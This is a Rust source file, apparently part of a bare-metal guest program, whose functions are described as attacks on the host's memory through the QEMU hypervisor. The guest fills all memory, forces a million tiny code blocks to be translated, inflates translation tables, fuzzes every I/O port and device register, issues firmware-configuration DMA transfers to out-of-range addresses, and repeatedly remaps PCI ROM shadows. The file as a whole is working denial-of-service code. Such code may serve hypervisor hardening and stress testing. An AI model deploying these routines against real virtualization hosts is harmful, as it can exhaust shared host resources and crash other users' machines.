//! Attacks on the host's memory: whatever could make the hypervisor take more than the machine has.

use crate::console::standard_output;
use crate::machine::{self, Machine, PAGE, call, halves, in8, out8, out16, out32, peek, poke};

/// How long to keep what was taken, so that it is seen from outside.
const HOLD: u64 = 300_000_000;

/// Fills all memory.
pub(crate) fn fill(machine: &Machine) {
    for (from, to) in machine.regions() {
        for page in from / PAGE..to / PAGE {
            poke(page * PAGE, page | 1);
        }
    }
    standard_output("all memory is filled\n");
    machine::wait(HOLD);
}

/// Makes QEMU translate a million blocks of code, the smallest that exist: its translations take far more room than the
/// code, and what it notes of each is on top.
pub(crate) fn code(machine: &Machine) {
    const BLOCKS: u64 = 1 << 20;
    /// `jmp` to what follows.
    const JUMP: [u8; 2] = [0xeb, 0x00];
    /// `ret`.
    const RETURN: u8 = 0xc3;
    let (from, to) = machine.regions()[0];
    let blocks = BLOCKS.min((to - from) / 2 - 1);
    for block in 0..blocks {
        poke(from + 2 * block, JUMP);
    }
    poke(from + 2 * blocks, RETURN);
    call(from);
    standard_output("a million blocks of code have run\n");
    machine::wait(HOLD);
}

/// Makes QEMU grow its table of address translations, one for each mode of the processor: it doubles when most of it
/// was in use before a flush.
pub(crate) fn translations(_: &Machine) {
    /// 2^20 entries are 64 MiB in each mode; QEMU would go on to 2^22.
    const MOST: u32 = 20;
    for touch in [
        machine::touch_aliases,
        machine::touch_aliases_guarded,
        machine::touch_aliases_as_user,
    ] {
        for bits in 8..=MOST {
            touch(1 << bits);
        }
    }
    standard_output("millions of addresses were translated\n");
    machine::wait(HOLD);
}

/// Reads and writes all that answers to ports and addresses, but for what would end the machine.
pub(crate) fn devices(_: &Machine) {
    /// Exit device, reset of chipset and keyboard controller, power management, and the line that reports this.
    const SPARED: [(u16, u16); 6] = [
        (0xf4, 0xf7),
        (0x60, 0x64),
        (0x92, 0x92),
        (0xcf9, 0xcf9),
        (0x600, 0x605),
        (0x3f8, 0x3ff),
    ];
    for port in 0..=u16::MAX {
        if SPARED.iter().any(|(from, to)| (*from..=*to).contains(&port)) {
            continue;
        }
        for value in [0, 0xff, 0x55] {
            in8(port);
            out8(port, value);
        }
    }
    /// virtio's transports, the interrupt controllers' registers, timers, and where a PC has its firmware.
    const REGISTERS: [(u64, u64); 5] = [
        (0xfeb0_0000, 0xfeb0_3000),
        (0xfec0_0000, 0xfec0_1000),
        (0xfed0_0000, 0xfed0_1000),
        (0xe000_0000, 0xe001_0000),
        (0xfffe_0000, 0xffff_0000),
    ];
    for round in 0..16 {
        for (from, to) in REGISTERS {
            for address in (from..to).step_by(4) {
                peek::<u32>(address);
                poke(address, halves(address)[0].wrapping_mul(0x9e37_79b9) >> round);
            }
        }
    }
    standard_output("every port and register was written\n");
    machine::wait(HOLD);
    // The last, because the payload is among its items, which the launcher has taken back: QEMU may end.
    firmware_configuration();
}

/// QEMU's configuration device: every item, and transfers to everywhere.
fn firmware_configuration() {
    const SELECT: u16 = 0x510;
    const DATA: u16 = 0x511;
    const DMA: u16 = 0x514;
    for item in (0..0x100).chain(0x4000..0x4010).chain(0x8000..0x8010) {
        out16(SELECT, item);
        for _ in 0..0x100 {
            in8(DATA);
        }
    }
    // The structure of a transfer: control, length, address, all big-endian.
    #[repr(C, align(16))]
    struct Transfer(u32, u32, u64);
    for item in 0..0x30_u32 {
        // Read, skip and write. Not to where messages become interrupts: one of them halts the processor.
        for command in [2, 4, 16, 0x1e] {
            for (length, address) in [
                (0x1000, 0_u64.wrapping_sub(0x10_0000)),
                (0x1000, 1 << 40),
                (0x1000, 0xfec0_0000),
            ] {
                let control = item << 16 | 8 | command;
                let transfer = Transfer(control.to_be(), u32::to_be(length), u64::to_be(address));
                let place = &raw const transfer as u64;
                let [low, high] = halves(place);
                out32(DMA, high.to_be());
                out32(DMA + 4, low.to_be());
                core::hint::black_box(&transfer);
            }
        }
    }
}

/// Moves devices and memory about in the address space, each time a new map for QEMU to keep until nobody looks at the
/// old one: the shadowed ROMs of `pc` and `q35`. On machines without PCI nothing moves.
pub(crate) fn mappings(_: &Machine) {
    for _ in 0..20_000 {
        for (register, value) in [
            (0x58_u32, 0x3333_3333_u32),
            (0x90, 0x3333_3333),
            (0x58, 0),
            (0x90, 0),
        ] {
            out32(0xcf8, 1 << 31 | register);
            out32(0xcfc, value);
        }
    }
    standard_output("the map has changed\n");
    machine::wait(HOLD);
}

/// All of it, one behind the other: what each has taken stays.
pub(crate) fn everything(machine: &Machine) {
    fill(machine);
    translations(machine);
    code(machine);
    translations(machine);
    devices(machine);
}
